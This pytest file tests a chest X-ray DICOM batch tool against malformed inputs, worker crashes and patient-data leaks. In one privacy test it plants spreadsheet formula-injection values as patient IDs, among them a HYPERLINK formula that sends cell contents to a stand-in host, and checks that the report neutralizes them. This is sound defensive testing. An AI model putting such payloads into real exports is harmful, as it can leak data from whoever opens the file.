"""Bad input never stops a run, and outputs leak no patient data.

One corpus of awkward files (written here from pydicom, pydicom's bundled test
files, pydicom-data and the shared chest images) goes through ONE real
`heartbatch run` subprocess with worker processes and `--debug`; the tests
then read its report, summaries, debug log and terminal output.  Cases that
need control over timing or the process (a file deleted between scan and
read, worker crashes, a hanging reader, non-finite model outputs, memory of
an 8000 x 8000 image) run on their own.
"""

from __future__ import annotations

import csv
import ctypes
import json
import os
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pydicom
import pytest
from onnx import helper
from pydicom.data import get_testdata_file
from pydicom.dataelem import RawDataElement
from pydicom.dataset import FileMetaDataset
from pydicom.tag import Tag

import crashers
import onnx_models as M
from dicom_factory import (make_nonsquare, monochrome1_twin, shared_png, shared_png_paths, to_bits, truncate,
                           write_dicom, write_text_sr)
from heartbatch import cli, pipeline
from heartbatch.model import BoxModel
from heartbatch.records import Record
from heartbatch.workers import WorkerPool, Prepared, prepare

REPO = Path(__file__).resolve().parents[1]

#: garbage charsets and odd values are the point here; pydicom's warnings about them are expected
pytestmark = pytest.mark.filterwarnings("ignore::UserWarning:pydicom.*")
slow = pytest.mark.slow  # starts `heartbatch run` or Python in a subprocess

#: Distinctive identifiers planted in the corpus: none may appear in any output.
PHI = {"patient_name": "Qvornik^Blathersby", "patient_id": "PIDzq7731x", "accession": "ACCwx90412",
       "birth_date": "19290317"}
#: The same kind of values inside garbage bytes (the garbage-string file).
GARBAGE_PHI = {"name": b"Zenthrope^Gulliwax\xff\xfe\x1b[31m\x9b", "id": b"GRBid55120\xc3\x28\xff",
               "accession": b"GRBacc4471\x80\x81", "birth": b"19181130\xff"}
#: What pydicom's DICOMDIR holds about its (fictional) patients.
DICOMDIR_PHI = ["Archibald", "77654033", "98890234"]
NEEDLES = ["Qvornik", "Blathersby", PHI["patient_id"], PHI["accession"], PHI["birth_date"],
           "Zenthrope", "Gulliwax", "GRBid55120", "GRBacc4471", "19181130", *DICOMDIR_PHI]


@dataclass
class Case:
    name: str | bytes          # relative to the corpus root; bytes for a non-UTF-8 name
    status: str
    words: tuple[str, ...] = ()  # the reason must contain each (case-insensitive)
    no_mm: bool = False          # an ok row without millimetres

    @property
    def csv_name(self) -> str:
        """How the report writes the path: undecodable bytes as \\xNN."""
        if isinstance(self.name, bytes):
            return self.name.decode("utf-8", "backslashreplace")
        return self.name


#: kind -> expected row.  Every file in the corpus is listed here.
CASES: dict[str, Case] = {
    "non-DICOM text file": Case("notes.txt", "skipped", ("not a DICOM file",)),
    "non-DICOM PNG image": Case("chest.png", "skipped", ("not a DICOM file",)),
    "empty file": Case("empty.dcm", "skipped", ("empty file",)),
    "truncated inside the pixel data": Case("truncated.dcm", "error", ("truncated", "copy it again")),
    "no file meta, no preamble": Case("no_meta.dcm", "ok"),
    "DICOMDIR": Case("DICOMDIR", "skipped", ("DICOMDIR",)),
    "no PixelData: structured report": Case("report_sr.dcm", "skipped", ("no pixel data",)),
    "no PixelData: presentation state": Case("presentation_state.dcm", "skipped",
                                             ("no pixel data", "Presentation State")),
    "RGB": Case("rgb.dcm", "skipped", ("colour", "RGB")),
    "RGB secondary capture (pydicom-data)": Case("sc_rgb.dcm", "skipped", ("colour",)),
    "multi-frame": Case("multiframe.dcm", "skipped", ("multi-frame", "3 frames")),
    "signed 16-bit with rescale": Case("signed16_rescale.dcm", "ok"),
    "BitsStored 10 of 16": Case("bits10.dcm", "ok"),
    "BitsStored 12 of 16": Case("bits12.dcm", "ok"),
    "MONOCHROME1": Case("monochrome1.dcm", "ok"),
    "PixelSpacing 0\\0": Case("spacing_zero.dcm", "ok", no_mm=True),
    "PixelSpacing missing": Case("spacing_missing.dcm", "ok", no_mm=True),
    "PixelSpacing malformed": Case("spacing_malformed.dcm", "ok", no_mm=True),
    "1 x 5000 image": Case("strip_1x5000.dcm", "skipped", ("too small", "1 x 5000")),
    "8000 x 8000 16-bit image": Case("huge_8000.dcm", "ok"),
    "lateral view": Case("lateral.dcm", "skipped", ("lateral", "LL")),
    "missing ViewPosition": Case("no_view_position.dcm", "ok"),
    "BodyPartExamined not chest": Case("knee.dcm", "skipped", ("body part", "KNEE")),
    "CT (pydicom CT_small)": Case("ct.dcm", "skipped", ("modality CT", "CR/DX")),
    "MR (pydicom MR_small)": Case("mr.dcm", "skipped", ("modality MR", "CR/DX")),
    "garbage bytes in string tags": Case("garbage_strings.dcm", "ok"),
    "file name with spaces": Case("name with spaces.dcm", "ok"),
    "non-ASCII file name": Case("thorax_ü_日本語.dcm", "ok"),
    # chmod 000; the run drops root's override of file permissions (see _drop_root_file_access)
    "unreadable file (no read permission)": Case("unreadable.dcm", "error", ("permission denied",)),
    "file inside a symlink loop": Case("loop/inside.dcm", "ok"),
    "symlink cycle (a -> b -> a)": Case("cycle_a", "error", ("symbolic links",)),
    "symlink cycle (b -> a -> b)": Case("cycle_b", "error", ("symbolic links",)),
    "dangling symlink": Case("dangling.dcm", "error", ("broken symbolic link",)),
    "JPEG-LS, decoder not installed": Case("jpeg_ls.dcm", "error",
                                           ("no decoder installed", "JPEG-LS", "install", "pylibjpeg-libjpeg")),
    "MPEG2 transfer syntax, no decoder exists": Case("mpeg2.dcm", "error", ("MPEG2", "not supported")),
}

#: Makes the run's interpreter (and its worker processes, through PYTHONPATH)
#: look like an installation without a JPEG-LS decoder: neither pylibjpeg-libjpeg
#: (`import libjpeg` fails and its pylibjpeg plugin entry points are gone) nor
#: pyjpegls (which highdicom brings; `import jpeg_ls` fails), exactly as when the
#: packages are not installed.
SITECUSTOMIZE = '''\
import sys
from importlib import metadata

sys.modules["libjpeg"] = None
sys.modules["jpeg_ls"] = None
_entry_points = metadata.entry_points


def entry_points(**params):
    found = _entry_points(**params)
    if isinstance(found, metadata.EntryPoints):
        found = metadata.EntryPoints(ep for ep in found if not ep.value.startswith("libjpeg"))
    return found


metadata.entry_points = entry_points
'''

PR_CAPBSET_DROP = 24
CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH = 1, 2


def _drop_root_file_access() -> None:
    """Runs in the child before exec: without CAP_DAC_OVERRIDE/CAP_DAC_READ_SEARCH
    in its bounding set, root's next program obeys file permissions.

    Tests run as root here, and root reads a chmod 000 file regardless; the
    child still owns every file the tests wrote (root's own), so only the
    unreadable file is refused, as for an ordinary user.
    """
    if os.geteuid() != 0:
        return
    libc = ctypes.CDLL(None, use_errno=True)
    for cap in (CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH):
        if libc.prctl(PR_CAPBSET_DROP, cap, 0, 0, 0) != 0:
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP) failed")


def _phi(**kw):
    return dict(patient_name=PHI["patient_name"], patient_id=PHI["patient_id"], accession=PHI["accession"],
                PatientBirthDate=PHI["birth_date"], **kw)


def _replant(src: str | Path, dest: Path, **fields) -> Path:
    """A pydicom test file with our identifiers (and any other ``fields``) set."""
    ds = pydicom.dcmread(src)
    ds.PatientName, ds.PatientID = PHI["patient_name"], PHI["patient_id"]
    ds.AccessionNumber, ds.PatientBirthDate = PHI["accession"], PHI["birth_date"]
    for keyword, value in fields.items():
        setattr(ds, keyword, value)
    if "SOPClassUID" in fields:
        ds.file_meta.MediaStorageSOPClassUID = ds.SOPClassUID
    ds.save_as(dest)
    return dest


def _set_raw(path: Path, raw: dict[str, tuple[str, bytes]]) -> None:
    """Overwrite elements with raw bytes pydicom would refuse to build."""
    ds = pydicom.dcmread(path)
    for keyword, (vr, value) in raw.items():
        tag = Tag(keyword)
        value += b" " * (len(value) % 2)
        ds[tag] = RawDataElement(tag, vr, len(value), value, 0, False, True)
    ds.save_as(path)


def build_corpus(root: Path, data_dir: Path) -> None:
    """Write one file (or link) per entry of :data:`CASES` under ``root``."""
    root.mkdir(parents=True)
    chest = make_nonsquare(shared_png(data_dir, 3), 200, 168)
    chest16 = to_bits(chest, 16)

    def dcm(name: str | bytes, pixels, **kw) -> Path:
        path = root / os.fsdecode(name) if isinstance(name, bytes) else root / name
        return write_dicom(path, pixels, **{**_phi(), **kw})

    (root / "notes.txt").write_text("Patient list: see PACS\n" * 20)
    shutil.copyfile(shared_png_paths(data_dir)[0], root / "chest.png")
    (root / "empty.dcm").write_bytes(b"")
    truncate(dcm("truncated.dcm", chest16, bits_stored=16), 0.6)

    # a raw dataset: no 128-byte preamble, no 'DICM', no group 0002 (implicit VR little endian)
    ds = pydicom.dcmread(dcm("no_meta.dcm", chest))
    ds.preamble, ds.file_meta = None, FileMetaDataset()
    pydicom.dcmwrite(root / "no_meta.dcm", ds, enforce_file_format=False, implicit_vr=True, little_endian=True)

    shutil.copyfile(get_testdata_file("DICOMDIR"), root / "DICOMDIR")
    write_text_sr(root / "report_sr.dcm", **_phi())
    dcm("presentation_state.dcm", None, modality="PR", sop_class="1.2.840.10008.5.1.4.1.1.11.1",
        view_position=None, body_part=None)
    dcm("rgb.dcm", np.stack([chest, chest // 2, chest // 3], axis=-1), photometric="RGB")
    _replant(get_testdata_file("SC_rgb.dcm"), root / "sc_rgb.dcm")
    dcm("multiframe.dcm", np.stack([chest] * 3))
    dcm("signed16_rescale.dcm", (to_bits(chest, 15).astype(np.int32) - 16384).astype(np.int16), signed=True,
        bits_stored=16, rescale=(0.5, 1024.0))
    dcm("bits10.dcm", to_bits(chest, 10), bits_stored=10)
    dcm("bits12.dcm", to_bits(chest, 12), bits_stored=12, window=(2048, 4096))
    dcm("monochrome1.dcm", monochrome1_twin(to_bits(chest, 12), 12), bits_stored=12, photometric="MONOCHROME1")
    dcm("spacing_zero.dcm", chest, pixel_spacing="0\\0")
    dcm("spacing_missing.dcm", chest, pixel_spacing=None)
    dcm("spacing_malformed.dcm", chest, pixel_spacing="0,143\\abc")
    dcm("strip_1x5000.dcm", np.tile(np.arange(250, dtype=np.uint8), 20)[None, :])
    dcm("huge_8000.dcm", huge_image(chest))
    dcm("lateral.dcm", chest, view_position="LL")
    dcm("no_view_position.dcm", chest, view_position=None)
    dcm("knee.dcm", chest, body_part="KNEE")
    _replant(get_testdata_file("CT_small.dcm"), root / "ct.dcm")
    _replant(get_testdata_file("MR_small.dcm"), root / "mr.dcm")

    garbage = dcm("garbage_strings.dcm", chest)
    _set_raw(garbage, {
        "SpecificCharacterSet": ("CS", b"ISO_IR 999"),
        "PatientName": ("PN", GARBAGE_PHI["name"]),
        "PatientID": ("LO", GARBAGE_PHI["id"]),
        "AccessionNumber": ("SH", GARBAGE_PHI["accession"]),
        "PatientBirthDate": ("DA", GARBAGE_PHI["birth"]),
        "StudyDescription": ("LO", b"\xff\xfe\xfd\x00\x1b[2J chest \x80"),
        "InstitutionName": ("LO", b"\x80\x81\x82\x83\\\\\\"),
        "StudyDate": ("DA", b"20XX13\xff"),
    })

    dcm("name with spaces.dcm", chest)
    dcm("thorax_ü_日本語.dcm", chest)
    os.chmod(dcm("unreadable.dcm", chest), 0)

    dcm("loop/inside.dcm", chest)
    os.symlink(".", root / "loop" / "again")            # loop/again/again/... is loop/
    os.symlink("..", root / "loop" / "up")              # back to the corpus root
    os.symlink("cycle_b", root / "cycle_a")
    os.symlink("cycle_a", root / "cycle_b")
    os.symlink("gone.dcm", root / "dangling.dcm")

    jls = _replant(get_testdata_file("MR_small_jpeg_ls_lossless.dcm"), root / "jpeg_ls.dcm", Modality="CR",
                   SOPClassUID="1.2.840.10008.5.1.4.1.1.1", ViewPosition="PA", BodyPartExamined="CHEST")
    ds = pydicom.dcmread(jls)
    ds.file_meta.TransferSyntaxUID = "1.2.840.10008.1.2.4.100"  # MPEG2 Main Profile / Main Level
    ds.save_as(root / "mpeg2.dcm")


def huge_image(chest: np.ndarray, side: int = 8000) -> np.ndarray:
    """A real chest image stretched to side x side, 16-bit (128 MB of pixels)."""
    from PIL import Image

    big = Image.fromarray(np.asarray(chest, np.uint8), mode="L").resize((side, side), Image.BILINEAR)
    return np.asarray(big, dtype=np.uint16) * np.uint16(257)


@dataclass
class CorpusRun:
    root: Path
    out: Path
    returncode: int
    stdout: str
    stderr: str
    rows: dict[str, dict[str, str]]  # relative path as written in the report -> row
    duplicates: list[str]            # paths that had more than one row
    seconds: float


@pytest.fixture(scope="module")
def corpus_run(tmp_path_factory, data_dir, box8_model) -> CorpusRun:
    """The whole corpus through one real `heartbatch run --debug` with two workers."""
    base = tmp_path_factory.mktemp("bad_inputs")
    root = base / "corpus"
    build_corpus(root, data_dir)
    shim = base / "no_libjpeg"
    shim.mkdir()
    (shim / "sitecustomize.py").write_text(SITECUSTOMIZE)
    out = base / "out" / "report.csv"
    out.parent.mkdir()  # a new output folder with --debug is its own test below
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(shim), str(REPO)]), "COLUMNS": "200"}
    started = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-m", "heartbatch", "run", str(root), "--out", str(out), "--model", str(box8_model),
         "--debug", "--workers", "2", "--timeout", "120"],
        cwd=REPO, env=env, capture_output=True, text=True, errors="backslashreplace", timeout=600,
        preexec_fn=_drop_root_file_access)
    seconds = time.monotonic() - started
    rows: dict[str, dict[str, str]] = {}
    duplicates = []
    if out.is_file():
        with open(out, newline="", encoding="utf-8") as fh:
            for row in csv.DictReader(fh):
                rel = row["path"][len(str(root)) + 1:] if row["path"].startswith(str(root)) else row["path"]
                if rel in rows:
                    duplicates.append(rel)
                rows[rel] = row
    return CorpusRun(root, out, proc.returncode, proc.stdout, proc.stderr, rows, duplicates, seconds)


@slow
def test_run_exits_0_without_tracebacks(corpus_run):
    """Every file got a row: exit 0; a user never sees a Python traceback."""
    run = corpus_run
    assert run.returncode == 0, run.stderr[-3000:]
    for stream in (run.stdout, run.stderr):
        assert "Traceback" not in stream, stream[-3000:]


@slow
def test_exactly_one_row_per_input_file(corpus_run):
    """The symlink loop is walked once (no loop/again/... rows), links to nowhere get rows."""
    expected = {c.csv_name for c in CASES.values()}
    assert corpus_run.duplicates == []
    assert set(corpus_run.rows) == expected
    assert len(corpus_run.rows) == len(CASES)


@slow
@pytest.mark.parametrize("kind", list(CASES))
def test_status_and_reason(corpus_run, kind):
    """Each kind gets its status and a reason that says what is wrong (empty for ok)."""
    case = CASES[kind]
    row = corpus_run.rows.get(case.csv_name)
    assert row is not None, f"no row for {case.csv_name}"
    assert row["status"] == case.status, (kind, row["status"], row["reason"])
    if case.status == "ok":
        assert row["reason"] == ""
        assert float(row["heart_x1"]) > float(row["heart_x0"]) and row["ctr"] != ""
        return
    reason = row["reason"]
    assert reason and not reason.lower().startswith("unexpected"), reason
    for word in case.words:
        assert word.lower() in reason.lower(), (kind, reason)


@slow
@pytest.mark.parametrize("kind", [k for k, c in CASES.items() if c.no_mm])
def test_zero_missing_or_malformed_spacing_means_no_millimetres(corpus_run, kind):
    row = corpus_run.rows[CASES[kind].csv_name]
    assert (row["pixel_spacing_mm"], row["heart_width_mm"], row["thoracic_width_mm"]) == ("", "", "")
    assert row["ctr"] != ""  # the ratio needs no millimetres


@slow
def test_ok_rows_keep_their_geometry(corpus_run):
    """Odd encodings still map boxes onto their own pixel grid (200 x 168 or 8000 x 8000)."""
    rows = corpus_run.rows
    huge = rows["huge_8000.dcm"]
    assert (huge["rows"], huge["columns"]) == ("8000", "8000")
    assert float(huge["heart_x0"]) == pytest.approx(0.3 * 8000, abs=0.01)
    assert float(rows["bits12.dcm"]["heart_x1"]) == pytest.approx(0.7 * 168, abs=0.01)
    assert float(rows["bits12.dcm"]["heart_width_mm"]) == pytest.approx(0.4 * 168 * 0.168, abs=0.01)


@slow
def test_debug_log_holds_every_problem(corpus_run):
    """--debug writes each skipped/error file with its reason to <report>.debug.log."""
    log = corpus_run.out.with_name("report.debug.log")
    assert log.is_file()
    text = log.read_text(encoding="utf-8", errors="replace")
    for row in corpus_run.rows.values():
        if row["status"] != "ok":
            assert row["reason"] in text, row["reason"]


@slow
def test_debug_log_in_a_new_output_folder(tmp_path, box8_model):
    """--out in a folder that does not exist yet: `run` creates it, --debug must too,
    and without a traceback."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "notes.txt").write_text("not a DICOM file\n")
    out = tmp_path / "new" / "report.csv"
    proc = subprocess.run([sys.executable, "-m", "heartbatch", "run", str(folder), "--out", str(out), "--model",
                           str(box8_model), "--debug", "--workers", "0", "--quiet"],
                          cwd=REPO, capture_output=True, text=True, timeout=300)
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "not a DICOM file" in out.with_name("report.debug.log").read_text()


@slow
def test_non_utf8_file_name_does_not_stop_the_run(tmp_path, data_dir, box8_model):
    """A name that is not valid UTF-8 (Latin-1 bytes from an old share) is a file like any
    other: its row shows the bytes as \\xNN, the other files still get theirs, exit 0.

    Kept apart from the corpus run so that a failure here does not hide the others.
    """
    chest = make_nonsquare(shared_png(data_dir, 7), 160, 128)
    folder = tmp_path / "in"
    write_dicom(folder / os.fsdecode(b"latin1_\xe9\xff.dcm"), chest)
    write_dicom(folder / "plain.dcm", chest)
    out = tmp_path / "out" / "report.csv"
    out.parent.mkdir()
    proc = subprocess.run([sys.executable, "-m", "heartbatch", "run", str(folder), "--out", str(out), "--model",
                           str(box8_model), "--debug", "--workers", "0"],
                          cwd=REPO, capture_output=True, text=True, errors="backslashreplace", timeout=300)
    assert "Traceback" not in proc.stderr and "Logging error" not in proc.stderr, proc.stderr[-3000:]
    assert proc.returncode == 0, proc.stderr[-3000:]
    with open(out, newline="", encoding="utf-8") as fh:
        rows = {Path(r["path"]).name: r["status"] for r in csv.DictReader(fh)}
    assert rows == {"latin1_\\xe9\\xff.dcm": "ok", "plain.dcm": "ok"}


@slow
def test_jpeg_ls_error_is_only_the_missing_decoder(corpus_run):
    """The same JPEG-LS file decodes where a JPEG-LS decoder is installed (as in this process)."""
    path = corpus_run.root / "jpeg_ls.dcm"
    assert isinstance(prepare(str(path), 224, timeout=60), Prepared)


# --- privacy --------------------------------------------------------------------------

def _output_bytes(run: CorpusRun) -> dict[str, bytes]:
    files = {str(p.relative_to(run.out.parent)): p.read_bytes()
             for p in sorted(run.out.parent.rglob("*")) if p.is_file()}
    files["<stdout>"] = run.stdout.encode("utf-8", "surrogateescape")
    files["<stderr>"] = run.stderr.encode("utf-8", "surrogateescape")
    return files


@slow
def test_no_patient_identifier_in_any_output_byte(corpus_run):
    """Planted names, IDs, birth dates and accession numbers (also inside garbage bytes,
    in ok, skipped and error files) appear nowhere: report, summaries, debug log,
    ledger, terminal."""
    outputs = _output_bytes(corpus_run)
    assert {"report.csv", "report.summary.json", "report.summary.md", "report.debug.log"} <= set(outputs)
    assert any(name.startswith("report.csv.state") for name in outputs)
    for name, data in outputs.items():
        for needle in NEEDLES:
            for variant in {needle, needle.upper(), needle.lower()}:
                assert variant.encode() not in data, f"{variant!r} found in {name}"


FORMULA_IDS = {
    "ok.dcm": ('=HYPERLINK("http://x.example/?"&A1)', "+4917"),
    "lateral.dcm": ("@SUM(A1:A9)", "-1+1"),
    "plain.dcm": (PHI["patient_id"], PHI["accession"]),
}


def test_include_patient_id_adds_neutralized_columns(tmp_path, data_dir, box8_model, capsys):
    """--include-patient-id adds patient_id and accession_number; a value that starts
    with = + - @ is prefixed with ' so a spreadsheet shows it as text."""
    chest = make_nonsquare(shared_png(data_dir, 4), 160, 128)
    folder = tmp_path / "in"
    for name, (pid, acc) in FORMULA_IDS.items():
        write_dicom(folder / name, chest, patient_id=pid, accession=acc,
                    view_position="LL" if name == "lateral.dcm" else "PA")
    out = tmp_path / "report.csv"
    code = cli.main(["run", str(folder), "--out", str(out), "--model", str(box8_model), "--workers", "0",
                     "--threads", "1", "--quiet", "--include-patient-id"])
    assert code == 0
    with open(out, newline="", encoding="utf-8") as fh:
        rows = {Path(r["path"]).name: r for r in csv.DictReader(fh)}
    assert rows["ok.dcm"]["status"] == "ok" and rows["lateral.dcm"]["status"] == "skipped"
    for name, (pid, acc) in FORMULA_IDS.items():
        expect = [("'" + v if v[0] in "=+-@" else v) for v in (pid, acc)]
        assert [rows[name]["patient_id"], rows[name]["accession_number"]] == expect
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@")), (column, cell)
            if cell.startswith("-"):
                float(cell)


# --- a file deleted between scan and read ---------------------------------------------

def test_file_deleted_between_scan_and_read(tmp_path, data_dir, box8_model, monkeypatch):
    """The scan saw it, then it vanished before decoding: an error row, the run goes on."""
    chest = make_nonsquare(shared_png(data_dir, 5), 160, 128)
    folder = tmp_path / "in"
    for name in ("a.dcm", "vanishing.dcm", "z.dcm"):
        write_dicom(folder / name, chest)
    seen = []
    real_needs = pipeline.ReportSession.needs

    def needs_then_delete(self, path):
        answer = real_needs(self, path)   # scanned and fingerprinted: it existed
        seen.append(Path(path).name)
        if Path(path).name == "vanishing.dcm":
            Path(path).unlink()
        return answer

    monkeypatch.setattr(pipeline.ReportSession, "needs", needs_then_delete)
    result = pipeline.run([folder], tmp_path / "report.csv", BoxModel(box8_model, threads=1),
                          pipeline.RunOptions(workers=0, threads=1))
    assert "vanishing.dcm" in seen
    with open(result.report, newline="", encoding="utf-8") as fh:
        rows = {Path(r["path"]).name: r for r in csv.DictReader(fh)}
    assert set(rows) == {"a.dcm", "vanishing.dcm", "z.dcm"}
    assert rows["vanishing.dcm"]["status"] == "error"
    assert "disappeared" in rows["vanishing.dcm"]["reason"]
    assert rows["a.dcm"]["status"] == rows["z.dcm"]["status"] == "ok"
    assert result.counts == {"ok": 2, "skipped": 0, "error": 1}


# --- resource bounds ------------------------------------------------------------------

RSS_LIMIT_BYTES = 1.5 * 2**30

RSS_SCRIPT = """
import json, sys
from heartbatch.workers import Prepared, prepare


def high_water_kib():  # VmHWM: peak RSS of this process image (ru_maxrss would include the parent's)
    with open("/proc/self/status") as fh:
        return int(next(line for line in fh if line.startswith("VmHWM:")).split()[1])


small, big = sys.argv[1], sys.argv[2]
assert isinstance(prepare(small, 224, timeout=None), Prepared)  # imports, decoders warmed up
base = high_water_kib()
result = prepare(big, 224, timeout=None)
print(json.dumps({"base_kib": base, "peak_kib": high_water_kib(), "result": type(result).__name__,
                  "reason": getattr(result, "reason", "")}))
"""


@slow
def test_8000x8000_16bit_image_peak_memory(corpus_run):
    """Decoding and preprocessing 128 MB of stored pixels stays far from exhausting memory."""
    root = corpus_run.root
    proc = subprocess.run([sys.executable, "-c", RSS_SCRIPT, str(root / "bits12.dcm"), str(root / "huge_8000.dcm")],
                          cwd=REPO, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    figures = json.loads(proc.stdout.strip().splitlines()[-1])
    assert figures["result"] == "Prepared", figures
    peak = figures["peak_kib"] * 1024
    print(f"\n8000 x 8000 16-bit: peak RSS {peak / 2**20:.0f} MiB "
          f"(after imports {figures['base_kib'] / 1024:.0f} MiB; stored pixels 122 MiB)")
    assert peak < RSS_LIMIT_BYTES


# --- worker crashes and the per-file time limit ----------------------------------------

@pytest.fixture(scope="module")
def pool_files(tmp_path_factory, data_dir) -> list[str]:
    """Ten small valid chest DICOMs, one named for each misbehaviour."""
    folder = tmp_path_factory.mktemp("pool")
    chest = make_nonsquare(shared_png(data_dir, 6), 96, 80)
    names = [f"file{i}.dcm" for i in range(7)] + ["crash.dcm", "hang.dcm", "flaky.dcm"]
    return [str(write_dicom(folder / name, chest)) for name in names]


def _pool_results(function, paths, timeout=60.0, workers=2, chunk=1):
    pool = WorkerPool(workers=workers, size=224, timeout=timeout, many=crashers.each(function), chunk=chunk)
    try:
        started = time.monotonic()
        results = list(pool.map(paths))
        return results, time.monotonic() - started
    finally:
        pool.close()


def _by_path(results) -> dict[str, Prepared | Record]:
    paths = [r.path for r in results]
    assert len(paths) == len(set(paths)), f"a file got two results: {sorted(paths)}"
    return dict(zip(paths, results))


@pytest.mark.parametrize("chunk", [1, 4], ids=["1 file per task", "4 files per task"])
@pytest.mark.parametrize("function", [crashers.crash_on_marker, crashers.exit_on_marker],
                         ids=["SIGKILL", "os._exit"])
def test_worker_killed_by_one_file_costs_only_that_file(pool_files, function, chunk):
    """A file that kills its worker (twice) gets an error row; every other file its result,
    including the files that shared its task."""
    results = _by_path(_pool_results(function, pool_files, chunk=chunk)[0])
    assert set(results) == set(pool_files)
    for path, result in results.items():
        if Path(path).name == "crash.dcm":
            assert isinstance(result, Record) and result.status == "error"
            assert "crashed" in result.reason
        else:
            assert isinstance(result, Prepared), (path, getattr(result, "reason", ""))


@pytest.mark.parametrize("chunk", [1, 4], ids=["1 file per task", "4 files per task"])
def test_a_file_that_crashes_once_is_retried(pool_files, chunk):
    """One crash is retried singly: a transient failure does not cost the file."""
    for sentinel in Path(pool_files[-1]).parent.glob("*.crashed-once"):
        sentinel.unlink()  # the other parametrization's first crash
    results = _by_path(_pool_results(crashers.crash_once, pool_files, chunk=chunk)[0])
    assert set(results) == set(pool_files)
    assert Path(pool_files[-1] + ".crashed-once").exists()  # it did crash a worker
    assert all(isinstance(r, Prepared) for r in results.values())


def test_hanging_file_hits_the_time_limit_in_a_worker(pool_files):
    """A reader that blocks for 30 s is stopped at the 2 s limit (it would come back ok, not with
    this error, had it run to its end); the others are unaffected.  How soon:
    benchmarks/response_times.py."""
    results, _ = _pool_results(crashers.hang_on_marker, pool_files, timeout=2.0)
    results = _by_path(results)
    assert set(results) == set(pool_files)
    hang = results[next(p for p in pool_files if Path(p).name == "hang.dcm")]
    assert isinstance(hang, Record) and hang.status == "error", hang
    assert "longer than 2 s" in hang.reason
    assert all(isinstance(r, Prepared) for p, r in results.items() if Path(p).name != "hang.dcm")


def test_measure_files_batches_in_order(pool_files, intensity_model, tmp_path):
    """Files measured in one batch get the same records as one at a time, in order: an
    file that is not DICOM keeps its place, and no box goes to the wrong file
    (the intensity model's boxes differ per image)."""
    from heartbatch.model import remember
    from heartbatch.confidence import Policy
    from heartbatch.workers import measure_files

    broken = tmp_path / "broken.dcm"
    broken.write_bytes(b"not a dicom file")
    others = [tmp_path / f"dim{i}.dcm" for i in range(2)]
    for i, path in enumerate(others):  # a darker and a brighter copy: different boxes
        ds = pydicom.dcmread(pool_files[0])
        ds.PixelData = (ds.pixel_array // (i + 2)).astype(ds.pixel_array.dtype).tobytes()
        ds.save_as(path)
    paths = [pool_files[0], str(broken), str(others[0]), str(others[1])]
    ref = remember(BoxModel(intensity_model, threads=1))
    policy = Policy()
    batched = measure_files(paths, 224, 60.0, model=ref, policy=policy)
    single = [measure_files([p], 224, 60.0, model=ref, policy=policy)[0] for p in paths]
    assert [r.path for r in batched] == paths
    assert [r.status for r in batched] == ["ok", "skipped", "ok", "ok"]
    for a, b in zip(batched, single):
        assert (a.status, a.reason) == (b.status, b.reason)
        if a.status == "ok":
            assert a.heart == pytest.approx(b.heart, abs=1e-4) and a.ctr == pytest.approx(b.ctr, abs=1e-6)
    assert len({tuple(r.heart) for r in batched if r.status == "ok"}) == 3


def test_hanging_file_hits_the_time_limit_in_process(pool_files, monkeypatch):
    """prepare() itself (as used without workers) bounds a blocking reader: the time-limit error,
    never the ok result the reader gives when it runs to its end."""
    hang = next(p for p in pool_files if Path(p).name == "hang.dcm")
    result = crashers.hang_on_marker(hang, 224, 0.5)
    assert isinstance(result, Record) and result.status == "error" and "longer than 0.5 s" in result.reason


# --- model faults -----------------------------------------------------------------------

def inf_model(path: Path, size: int = 224) -> Path:
    """+inf heart x1 and -inf thorax x0 for images with mean > 0.5, the default box otherwise."""
    bad = list(M.DEFAULT_BOXES)
    bad[2], bad[4] = float("inf"), float("-inf")
    nodes = M._mean_nodes("image") + [
        helper.make_node("Greater", ["mean", "threshold"], ["bright"]),
        helper.make_node("Where", ["bright", "bad", "box"], ["boxes"]),
    ]
    inits = [M._shape_n1(), M._const("threshold", 0.5), M._const("bad", [bad]), M._const("box", [M.DEFAULT_BOXES])]
    return M._save(path, nodes, inits, size=size, outputs=8)


def _split_image(fraction: float, seed: int) -> np.ndarray:
    rng = np.random.default_rng(seed)
    image = rng.integers(20, 40, size=(160, 128)).astype(np.uint8)
    image[: int(160 * fraction)] = rng.integers(200, 220, size=(int(160 * fraction), 128))
    return image


def test_infinite_predictions_give_error_rows_never_a_ctr(tmp_path):
    """An image the model answers with ±inf gets `error`; the rest of its batch stays ok."""
    model = inf_model(tmp_path / "inf.onnx")
    folder = tmp_path / "in"
    for i in range(2):
        write_dicom(folder / f"bright{i}.dcm", _split_image(0.85, i))
        write_dicom(folder / f"dark{i}.dcm", _split_image(0.15, 10 + i))
    out = tmp_path / "report.csv"
    assert cli.main(["run", str(folder), "--out", str(out), "--model", str(model), "--workers", "0",
                     "--threads", "1", "--quiet"]) == 0
    with open(out, newline="", encoding="utf-8") as fh:
        rows = {Path(r["path"]).name: r for r in csv.DictReader(fh)}
    for i in range(2):
        bright, dark = rows[f"bright{i}.dcm"], rows[f"dark{i}.dcm"]
        assert bright["status"] == "error" and "non-finite" in bright["reason"], bright
        assert bright["ctr"] == bright["heart_x1"] == bright["enlarged"] == ""
        assert dark["status"] == "ok" and float(dark["ctr"]) == pytest.approx(0.5, abs=1e-4)
    summary = json.loads(out.with_name("report.summary.json").read_text())
    assert summary["ctr"]["n"] == 2
